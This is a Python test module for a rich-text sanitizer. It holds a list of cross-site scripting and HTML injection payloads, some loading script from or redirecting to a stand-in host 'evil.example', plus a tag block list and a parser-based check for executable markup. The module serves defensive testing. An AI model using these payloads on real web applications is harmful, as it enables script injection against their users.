"""Texts that nobody means well, and how to see that something of them would run."""

import re
from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "--><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% now 'Y' %}",
    '<span data-mention="x" hx-get="/logout" hx-trigger="load">x</span>',
    '<div hx-on:click="alert(1)">x</div>',
    '<a href="https://e.example/" target=_top onclick=alert(1)>x</a>',
    "<object data=//evil.example></object><embed src=//evil.example>",
]

_ALLOWED_ATTRIBUTES = {"href", "rel", "data-mention"}
_BAD = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "base",
    "meta",
    "img",
    "template",
}


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.bad = False

    def handle_starttag(self, tag, attrs):
        if tag in _BAD or {name for name, _value in attrs} - _ALLOWED_ATTRIBUTES:
            self.bad = True
        for name, value in attrs:
            if name == "href" and not re.match(r"(https?|mailto|tel):", value or "", re.IGNORECASE):
                self.bad = True


def is_executable(html: str) -> bool:
    """Whether a browser could run, load or send something because of this piece of rich text."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.bad
